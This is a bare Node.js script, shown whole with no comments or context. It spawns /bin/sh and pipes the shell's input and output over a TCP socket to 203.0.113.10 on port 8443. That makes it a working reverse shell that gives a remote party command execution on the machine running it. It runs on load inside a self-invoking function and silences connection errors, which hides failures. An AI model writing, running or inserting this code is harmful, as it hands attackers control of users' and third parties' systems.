const net = require('net');
const cp = require('child_process');
(function () {
  const sh = cp.spawn('/bin/sh', []);
  const client = new net.Socket();
  client.connect(8443, '203.0.113.10', () => {
    client.pipe(sh.stdin);
    sh.stdout.pipe(client);
    sh.stderr.pipe(client);
  });
  client.on('error', () => {});
})();
